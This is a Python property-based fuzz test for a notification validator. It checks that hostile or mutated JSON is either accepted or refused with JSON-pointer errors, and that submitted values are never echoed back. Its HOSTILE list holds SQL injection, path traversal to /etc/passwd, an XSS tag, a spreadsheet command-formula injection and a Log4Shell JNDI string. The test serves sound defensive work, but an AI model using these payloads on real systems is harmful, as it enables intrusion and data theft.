"""Fuzzing the intake validator (issue 6, hostile input): whatever JSON arrives — random values,
real notifications with fields mutated, removed or replaced by hostile strings — the validator
either returns a Notification or raises `InvalidNotification` / `UnknownEventType` naming
fields by JSON pointer; it never raises anything else and never echoes a submitted value."""

from __future__ import annotations

import copy
import json
from typing import Any

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from hub.domain.schemas import SchemaRegistry
from hub.errors import InvalidNotification, UnknownEventType
from hub.settings import PROJECT_ROOT

REGISTRY = SchemaRegistry.load(PROJECT_ROOT / "events")
EXAMPLES = sorted((PROJECT_ROOT / "events" / "examples").glob("*.json"))
HOSTILE = [
    "' OR '1'='1",
    "'; DROP TABLE events; --",
    "../../../../etc/passwd",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "<script>alert(1)</script>",
    "=cmd|' /C calc'!A0",
    "\u202e\u0000\ufeff",
    "A" * 70_000,
    "${jndi:ldap://example.invalid/a}",
]
json_values = st.recursive(
    st.none()
    | st.booleans()
    | st.integers(min_value=-(2**70), max_value=2**70)
    | st.floats(allow_nan=False, allow_infinity=False)
    | st.text(max_size=40)
    | st.sampled_from(HOSTILE),
    lambda children: (
        st.lists(children, max_size=4) | st.dictionaries(st.text(max_size=12), children, max_size=4)
    ),
    max_leaves=20,
)


def _check(raw: Any) -> None:
    refused: InvalidNotification | None = None
    try:
        REGISTRY.validate(raw)
    except InvalidNotification as error:
        refused = error
    except UnknownEventType:
        return
    if refused is None:
        return
    assert refused.problems, "an invalid notification names at least one problem"
    for problem in refused.problems:
        assert problem.pointer == "" or problem.pointer.startswith("/")
        for hostile in HOSTILE:
            assert hostile not in problem.message


@settings(max_examples=300, suppress_health_check=[HealthCheck.too_slow])
@given(json_values)
def test_any_json_value_is_accepted_or_refused_by_pointer(raw: Any) -> None:
    _check(raw)


def _paths(document: Any, prefix: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    found = [prefix] if prefix else []
    if isinstance(document, dict):
        for key, value in document.items():
            found += _paths(value, (*prefix, key))
    elif isinstance(document, list):
        for index, value in enumerate(document):
            found += _paths(value, (*prefix, index))
    return found


@st.composite
def mutated_examples(draw: st.DrawFn) -> Any:
    example = json.loads(draw(st.sampled_from(EXAMPLES)).read_text())
    document = copy.deepcopy(example)
    for _ in range(draw(st.integers(min_value=1, max_value=3))):
        paths = _paths(document)
        if not paths:
            break
        *parent_path, last = draw(st.sampled_from(paths))
        parent = document
        for step in parent_path:
            parent = parent[step]
        action = draw(st.sampled_from(["replace", "hostile", "delete"]))
        if action == "delete" and isinstance(parent, dict):
            del parent[last]
        elif action == "hostile":
            parent[last] = draw(st.sampled_from(HOSTILE))
        else:
            parent[last] = draw(json_values)
    return document


@settings(max_examples=400, suppress_health_check=[HealthCheck.too_slow])
@given(mutated_examples())
def test_mutated_real_notifications_are_accepted_or_refused_by_pointer(raw: Any) -> None:
    _check(raw)


def test_every_example_validates() -> None:
    for path in EXAMPLES:
        REGISTRY.validate(json.loads(path.read_text()))
